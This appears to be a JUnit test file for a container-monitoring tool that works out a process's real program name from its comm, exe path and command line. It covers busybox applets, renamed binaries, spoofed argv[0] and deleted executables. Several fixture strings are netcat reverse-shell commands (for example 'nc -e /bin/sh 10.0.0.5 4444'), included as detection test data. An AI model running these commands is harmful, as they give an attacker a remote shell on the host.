package dev.dockward.event;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.util.Map;
import java.util.OptionalInt;
import java.util.OptionalLong;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** {@code process.program}: what a process runs, whatever {@code comm} says. */
class ProgramNameTest {

  @ParameterizedTest(name = "{0} / {1} / {2} -> {3}")
  @CsvSource(
      delimiter = '|',
      value = {
        // Debian's static busybox re-runs itself through /proc/self/exe: comm is "exe"
        "exe           | /bin/busybox              | nc 172.17.0.5 4444 -e /bin/sh | nc",
        "exe           | /bin/busybox              | sh -c id                      | sh",
        // an applet through its symlink (/bin/sh -> busybox), comm already right
        "sh            | /bin/busybox              | /bin/sh -c id                 | sh",
        // the multi-call binary named on the command line: the applet is the first argument
        "busybox       | /bin/busybox              | /bin/busybox nc -e /bin/sh h 1 | nc",
        "busybox       | /bin/busybox              | busybox --list                | busybox",
        "busybox       | /bin/busybox              | busybox                       | busybox",
        "toybox        | /usr/bin/toybox           | toybox nc -e sh h 1           | nc",
        "busybox.static | /bin/busybox.static       | busybox.static ls /           | ls",
        // a renamed copy of busybox, its applets re-run through /proc/self/exe
        "exe           | /tmp/kitten               | nc -e /bin/sh 10.0.0.5 4444    | nc",
        // a login shell's leading dash
        "-sh           | /bin/busybox              | -sh                           | sh",
        // an exec through a symlink of another name: comm is the link's name
        "nc            | /usr/bin/nc.openbsd       | nc -e /bin/sh 10.0.0.5 4444    | nc",
        "python3       | /usr/bin/python3.11       | python3 -c pass               | python3",
        "modprobe      | /usr/bin/kmod             | modprobe evil                 | modprobe",
        // argv[0] made up (exec -a): comm and exe agree, argv[0] is not believed
        "ncat          | /usr/bin/ncat             | httpd -e /bin/sh h 1          | ncat",
        // a renamed copy of an ordinary program is what its file is called
        "x             | /tmp/x                    | /tmp/x -e /bin/sh h 1          | x",
        // a long argv[0] is cut to 15 bytes in comm
        "containerd-shim | /usr/bin/containerd-shim-runc-v2 | containerd-shim-runc-v2 -id 9f | containerd-shim-runc-v2",
        "my-long-tool-na | /opt/bin/real              | my-long-tool-name --x         | my-long-tool-name",
        // the exe deleted after the exec
        "payload       | /tmp/payload (deleted)    | ./payload                     | payload",
        // the exe unknown: comm, unless comm says the process re-ran itself
        "sh            | ''                        | sh -c id                      | sh",
        "exe           | ''                        | nc -e /bin/sh h 1              | nc",
        "kworker/0:1   | ''                        | ''                            | kworker/0:1",
        // no command line (a zombie): the exe
        "sleep         | /bin/sleep                | ''                            | sleep",
      })
  void normalisesTheProgram(String comm, String exe, String cmdline, String program) {
    assertEquals(program, ProgramName.of(comm, exe, cmdline));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {"exe | /bin/busybox | nc 172.17.0.5 4444 -e /bin/sh | nc"})
  void everyProcessDocumentCarriesIt(String comm, String exe, String cmdline, String program) {
    ProcessInfo p =
        new ProcessInfo(
            4321,
            4242,
            1234567L,
            comm,
            exe,
            cmdline,
            false,
            OptionalInt.of(0),
            OptionalInt.of(0),
            OptionalLong.empty(),
            Map.of(),
            "/docker/9f");
    assertEquals(program, EventDocuments.process(p).get("program"));
    assertEquals(
        comm, EventDocuments.process(p).get("name"), "comm stays as the kernel reported it");
  }
}
